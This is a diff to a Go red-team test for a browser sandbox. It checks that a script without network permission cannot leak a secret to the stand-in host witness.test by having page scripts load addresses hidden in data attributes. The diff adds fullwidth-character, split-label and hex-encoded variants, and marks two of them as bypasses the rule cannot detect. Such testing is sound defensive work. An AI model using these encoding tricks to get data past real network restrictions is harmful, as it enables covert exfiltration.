@@ -2,8 +2,12 @@ package e2e
 
 import (
 	"encoding/base64"
+	"encoding/hex"
 	"fmt"
+	"maps"
 	"net/http"
+	"slices"
+	"sort"
 	"strings"
 	"testing"
 	"time"
@@ -17,9 +21,11 @@ import (
 // addresses from what is in the page: a lazy loader that decodes its data-src (percent-encoded,
 // as its CMS writes it) or a base64 data-b64, a router that goes to the path in data-go, a
 // theme script that loads the image a CSS custom property names. A remixlet with no network
-// permission writes the data in such a shape; nothing may reach the witness. Two shapes are
-// probed and only logged (the rule cannot see them; NOTES.deputy6.md says why): a host and a
-// path in two attributes, and an address in a text node.
+// permission writes the data in such a shape; nothing may reach the witness: refused as an
+// address in a value (remixlet/deputies.go) or as a request to a site the remixlet named
+// (remixlet/namedhosts.go: a host and a path in two attributes, an address in a text node). Two
+// shapes are probed and only logged (the rule cannot see them; NOTES.deputy6.md says why): a
+// host's two labels in two attributes, and hex.
 
 const pageDeputiesPage = `<!doctype html><html><head><meta charset="utf-8"><title>Gallery</title></head><body>
 <h1>Gallery</h1><div id="box"></div><p id="done"></p>
@@ -36,6 +42,10 @@ function look(el) {
   const host = el.getAttribute('data-host');
   if (host) u = 'https://' + host + (el.getAttribute('data-path') || '/');
   if (el.hasAttribute('data-text-src')) u = el.textContent.trim();
+  const ha = el.getAttribute('data-ha');
+  if (ha) u = 'https://' + ha + '.' + el.getAttribute('data-hb') + '/labels/secret-4711';
+  const hex = el.getAttribute('data-hex');
+  if (hex) u = hex.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('');
   const v = getComputedStyle(el).getPropertyValue('--next').trim().replace(/^["']|["']$/g, '');
   if (v) u = v;
   if (u && !seen.has(el)) {
@@ -104,11 +114,14 @@ await dom.insert(await dom.query('#box'), d);
 		"css-file": create(`{ class: 'rxfile' }`), // with pageDeputyStyles' style.css
 		"css-bare": `await dom.addStyle('.rxnext { --next: https://witness.test/css-bare/secret-4711; }');
 ` + create(`{ class: 'rxnext' }`),
-		// Residual shapes, logged only.
 		"split": create(`{ 'data-host': 'witness.test', 'data-path': '/split/secret-4711' }`),
 		"text": `const d = await dom.create({ tag: 'div', attrs: { 'data-text-src': '' }, text: 'https://witness.test/text/secret-4711' });
 await dom.insert(await dom.query('#box'), d);
 `,
+		"fullwidth": create(`{ 'data-host': 'ｗｉｔｎｅｓｓ。test', 'data-path': '/fullwidth/secret-4711' }`),
+		// Residual shapes, logged only.
+		"labels": create(`{ 'data-ha': 'witness', 'data-hb': 'test' }`),
+		"hex":    create(`{ 'data-hex': '` + hex.EncodeToString([]byte("https://witness.test/hex/secret-4711")) + `' }`),
 	}
 }
 
@@ -118,7 +131,7 @@ var pageDeputyStyles = map[string]string{
 }
 
 // pageDeputyResiduals are the variants the rule does not see (see the top of the file).
-var pageDeputyResiduals = map[string]bool{"split": true, "text": true}
+var pageDeputyResiduals = map[string]bool{"labels": true, "hex": true}
 
 func TestRedteamPageScriptsAsDeputies(t *testing.T) {
 	wit := &witness{}
@@ -150,7 +163,11 @@ func TestRedteamPageScriptsAsDeputies(t *testing.T) {
 		}
 	}
 
-	for name := range variants {
+	// The residual shapes first: a site another variant named stays refused for the origin's
+	// pages a few seconds after that page went (namedhosts.go), which would hide what they show.
+	names := slices.Sorted(maps.Keys(variants))
+	sort.SliceStable(names, func(i, j int) bool { return pageDeputyResiduals[names[i]] && !pageDeputyResiduals[names[j]] })
+	for _, name := range names {
 		tab.Navigate("https://deputies.test/p/" + name)
 		want := "/" + name + "/secret-4711"
 		// The remixlet writes (or is refused, and says so), the page's script loads (or the
